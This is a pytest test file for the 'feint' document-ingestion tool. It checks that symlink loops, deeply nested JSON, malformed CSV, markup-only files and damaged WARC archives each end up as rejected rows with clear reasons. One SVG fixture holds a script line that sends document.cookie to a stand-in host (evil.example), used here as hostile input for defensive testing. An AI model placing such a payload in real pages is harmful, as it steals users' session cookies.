"""Ingest against hostile or broken inputs: each becomes a rejected row that says why,
or is read the way a user means, never a crash, a silent loss or a junk document.

Every input is written here at test time.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
from pathlib import Path

import pytest
from tests.conftest import corpus_items, news_page
from warcio.archiveiterator import ArchiveIterator
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from feint.config import IngestOptions
from feint.ingest import ingest
from feint.ingest.inputs import InputRef, expand_inputs
from feint.ingest.readers import read_ref
from feint.ingest.records import Extracted, Item, RejectedItem
from feint.store import Store


def _read(path: Path) -> list[Item]:
    return list(read_ref(InputRef(str(path), "file"), IngestOptions()))


def _rows(store: Store) -> list[dict[str, object]]:
    return store.query(
        "SELECT source_path, status, reason, text, title FROM documents ORDER BY source_path"
    ).records()


# -- item 6: globs and symlink loops ---------------------------------------------------


@pytest.mark.parametrize("pattern", ["g/**", "g/**/*.txt", "g/*", "**/*.txt"])
def test_a_glob_through_a_symlink_loop_yields_each_file_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pattern: str
) -> None:
    folder = tmp_path / "g"
    folder.mkdir()
    for name in ("a.txt", "b.txt", "c.txt"):
        (folder / name).write_text("words", "utf-8")
    (folder / "up").symlink_to(tmp_path, target_is_directory=True)  # g/up/g/up/g/...
    monkeypatch.chdir(tmp_path)
    refs = list(expand_inputs([pattern]))
    assert [r.name for r in refs] == ["g/a.txt", "g/b.txt", "g/c.txt"]
    assert {r.kind for r in refs} == {"file"}


def test_two_loops_do_not_multiply(tmp_path: Path) -> None:
    # Python's glob walks each loop up to the kernel's 40-link limit: with two loops
    # that is 2**40 paths, so this test never ends on a glob that follows them.
    folder = tmp_path / "g"
    folder.mkdir()
    (folder / "a.txt").write_text("words", "utf-8")
    (folder / "self").symlink_to(folder, target_is_directory=True)
    (folder / "again").symlink_to(folder, target_is_directory=True)
    assert [r.name for r in expand_inputs([f"{folder}/**/*.txt"])] == [f"{folder}/a.txt"]


def test_an_absolute_glob_and_a_folder_through_loops_agree(tmp_path: Path) -> None:
    folder = tmp_path / "g"
    (folder / "sub").mkdir(parents=True)
    for name in ("a.txt", "sub/b.txt", "sub/c.txt"):
        (folder / name).write_text("words", "utf-8")
    (folder / "sub" / "loop").symlink_to(folder, target_is_directory=True)
    (folder / "same.txt").symlink_to(folder / "a.txt")  # one file, two names
    as_glob = [r.name for r in expand_inputs([f"{folder}/**"])]
    as_folder = [r.name for r in expand_inputs([str(folder)])]
    expected = [f"{folder}/a.txt", f"{folder}/sub/b.txt", f"{folder}/sub/c.txt"]
    assert as_glob == expected and as_folder == expected


def test_a_glob_follows_a_directory_link_that_is_no_loop(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x.html").write_text("<p>x</p>", "utf-8")
    (tmp_path / "news").mkdir()
    (tmp_path / "news" / "2024").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (tmp_path / "news" / ".hidden.html").write_text("<p>x</p>", "utf-8")
    refs = list(expand_inputs([f"{tmp_path}/news/**/*.html"]))
    assert [r.name for r in refs] == [f"{tmp_path}/news/2024/x.html"]
    assert [r.kind for r in expand_inputs([f"{tmp_path}/nothing/**"])] == ["missing"]


# -- item 7a: deeply nested JSON -------------------------------------------------------


def test_deeply_nested_json_is_a_rejected_row_not_a_bug(tmp_path: Path) -> None:
    item = corpus_items()[0]
    deep = "[" * 100_000 + "]" * 100_000
    lines = tmp_path / "items.jsonl"
    lines.write_text(json.dumps(item) + "\n" + deep + "\n", "utf-8")
    whole = tmp_path / "deep.json"
    whole.write_text(deep, "utf-8")
    meta = tmp_path / "meta.jsonl"  # parses, but too deep to keep in documents.meta
    meta.write_text(
        json.dumps({"text": item["text"], "extra": json.loads("[" * 900 + "]" * 900)}), "utf-8"
    )
    got = _read(lines)
    assert isinstance(got[0], Extracted)
    for bad in (got[1], *_read(whole), *_read(meta)):
        assert isinstance(bad, RejectedItem), bad
        assert "bug in feint" not in bad.reason
        assert "nested" in bad.reason
    assert got[1].source_path == f"{lines}:2"


# -- item 8: a long CSV field ----------------------------------------------------------


def test_a_csv_text_field_over_128_kb_is_read(tmp_path: Path) -> None:
    article = (corpus_items()[0]["text"] + "\n\n") * 200  # about 180 KB, one field
    assert len(article) > 131_072
    path = tmp_path / "long.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["title", "text"], ["Long read", article]])
    [item] = _read(path)
    assert isinstance(item, Extracted), item
    assert item.title == "Long read" and len(item.text) > 131_072


# -- item 9: an unterminated CSV quote -------------------------------------------------


@pytest.mark.parametrize(
    ("body", "loaded"),
    [
        # The quote never closes: today all later rows merge into the first text.
        ('"{0},Title one\n{1},Title two\n{2},Title three\n', ["Title two", "Title three"]),
        # It closes at the next row's opening quote.
        ('"{0},Title one\n"{1}",Title two\n"{2}",Title three\n', ["Title two", "Title three"]),
    ],
)
def test_an_unterminated_csv_quote_rejects_its_row_and_keeps_the_rest(
    tmp_path: Path, body: str, loaded: list[str]
) -> None:
    texts = [it["text"].replace('"', "'").replace(",", ";") for it in corpus_items()[:3]]
    path = tmp_path / "broken.csv"
    path.write_text("text,title\n" + body.format(*texts), "utf-8")
    got = _read(path)
    bad = [i for i in got if isinstance(i, RejectedItem)]
    good = [i for i in got if isinstance(i, Extracted)]
    assert len(bad) == 1
    assert bad[0].source_path == f"{path}:2"
    assert f"{path}:2" in bad[0].reason and "quote" in bad[0].reason
    assert [i.title for i in good] == loaded
    assert all(i.text in texts for i in good)  # no row swallowed another


def test_quoted_fields_over_several_lines_still_load(tmp_path: Path) -> None:
    path = tmp_path / "ok.csv"
    text = corpus_items()[0]["text"]
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(
            [["text", "title"], [text[:300] + '\n\n"Quoted," he said.\n' + text[300:], "One"],
             [corpus_items()[1]["text"], "Two"]]
        )  # fmt: skip
        # A stray quote that opens no field reads as before: without its quotes.
        f.write(
            '"Putin" is ready; '
            + corpus_items()[2]["text"].replace('"', "").replace(",", ";")
            + ",Three\n"
        )
    got = _read(path)
    assert [type(i).__name__ for i in got] == ["Extracted"] * 3
    assert '"Quoted," he said.' in got[0].text  # type: ignore[union-attr]
    assert [i.title for i in got] == ["One", "Two", "Three"]  # type: ignore[union-attr]
    assert got[2].text.startswith("Putin is ready; ")  # type: ignore[union-attr]
    last = len(path.read_text("utf-8").splitlines())
    assert got[2].source_path == f"{path}:{last}"


# -- item 10: markup that is no article ------------------------------------------------

_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>'
    "fetch('https://evil.example/steal?c=' + document.cookie); // the minister said on "
    "Monday that the talks would resume next week after the delegations met in Istanbul "
    "and agreed on the agenda for a ceasefire</script><text x='0' y='5'>The spokesman "
    "told reporters that the government was ready to negotiate.</text></svg>"
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("drawing.svg", _SVG),
        ("drawing", _SVG),
        ("drawing.txt", _SVG),
        ("drawing.html", _SVG),
        ("drawing.xml", '<?xml version="1.0"?>\n' + _SVG),
        # HTML markup saved without a page around it, and no readable text.
        ("widget.txt", "<div><script>" + "var minister = 'said the talks'; " * 20
         + "</script><a href='/'>Home</a></div>"),
        ("widget", "<div><script>" + "var minister = 'said the talks'; " * 20
         + "</script><a href='/'>Home</a></div>"),
    ],
)  # fmt: skip
def test_markup_only_inputs_are_not_articles(tmp_path: Path, name: str, content: str) -> None:
    path = tmp_path / name
    path.write_text(content, "utf-8")
    with Store.open(tmp_path / "s.duckdb") as store:
        report = ingest(store, [str(path)], IngestOptions())
        [row] = _rows(store)
    assert row["status"] == "rejected", row
    assert "not an article" in str(row["reason"]) and str(path) in str(row["reason"])
    assert report.ingested == 0


def test_an_article_saved_as_txt_markup_keeps_its_text(tmp_path: Path) -> None:
    item = corpus_items()[2]
    page = news_page(item).split("\n", 1)[1]  # no doctype line
    path = tmp_path / "saved.txt"
    path.write_text(page, "utf-8")
    [got] = _read(path)
    assert isinstance(got, Extracted)
    assert "<p>" not in got.text and item["text"][:40] in got.text


# -- item 3: a cut or corrupt WARC -----------------------------------------------------


def _warc(path: Path, n: int) -> list[int]:
    """A gzipped WARC of n HTML responses; returns each record's byte offset."""
    with open(path, "wb") as f:
        writer = WARCWriter(f, gzip=True)
        for it in corpus_items()[:n]:
            headers = StatusAndHeaders(
                "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
            )
            writer.write_record(
                writer.create_warc_record(
                    f"https://news.example/{it['id']}",
                    "response",
                    payload=io.BytesIO(news_page(it).encode("utf-8")),
                    http_headers=headers,
                )
            )
    offsets = []
    with open(path, "rb") as f:
        archive = ArchiveIterator(f)
        for _ in archive:
            offsets.append(archive.offset)
            archive.read_to_end()
    return offsets


def _cut_warc(tmp_path: Path, at: float) -> tuple[Path, int]:
    """A 3-record archive cut ``at`` (0..1) of the way through its 3rd record."""
    good = tmp_path / "good.warc.gz"
    offsets = _warc(good, 3)
    data = good.read_bytes()
    start = offsets[2]
    cut = tmp_path / "cut.warc.gz"
    cut.write_bytes(data[: start + int((len(data) - start) * at)])
    return cut, start


@pytest.mark.parametrize("at", [0.002, 0.02, 0.05, 0.3, 0.6, 0.95])
def test_a_cut_warc_gz_names_the_damaged_record(tmp_path: Path, at: float) -> None:
    cut, start = _cut_warc(tmp_path, at)
    with Store.open(tmp_path / "s.duckdb") as store:
        report = ingest(store, [str(cut)], IngestOptions())
        rows = _rows(store)
    assert [r["status"] for r in rows].count("ok") == 2
    [bad] = [r for r in rows if r["status"] == "rejected"]
    assert bad["source_path"] == f"{cut}@{start}"
    reason = str(bad["reason"])
    assert str(cut) in reason and f"byte offset {start:,}" in reason and "damaged" in reason
    assert "bug in feint" not in reason
    assert len(report.rejected) == 1


def test_a_corrupt_warc_gz_record_is_named(tmp_path: Path) -> None:
    good = tmp_path / "good.warc.gz"
    offsets = _warc(good, 2)
    data = bytearray(good.read_bytes())
    middle = (offsets[1] + len(data)) // 2
    data[middle : middle + 16] = b"\x00" * 16
    bad = tmp_path / "corrupt.warc.gz"
    bad.write_bytes(bytes(data))
    got = _read(bad)
    assert isinstance(got[0], Extracted)
    [rejected] = [i for i in got if isinstance(i, RejectedItem)]
    assert f"byte offset {offsets[1]:,}" in rejected.reason and str(bad) in rejected.reason


def test_a_whole_warc_has_no_rejection(tmp_path: Path) -> None:
    good = tmp_path / "good.warc.gz"
    _warc(good, 2)
    assert all(isinstance(i, Extracted) for i in _read(good))
    plain = tmp_path / "plain.warc"
    plain.write_bytes(gzip.decompress(good.read_bytes()))
    assert all(isinstance(i, Extracted) for i in _read(plain))
    assert os.path.getsize(plain) > os.path.getsize(good)
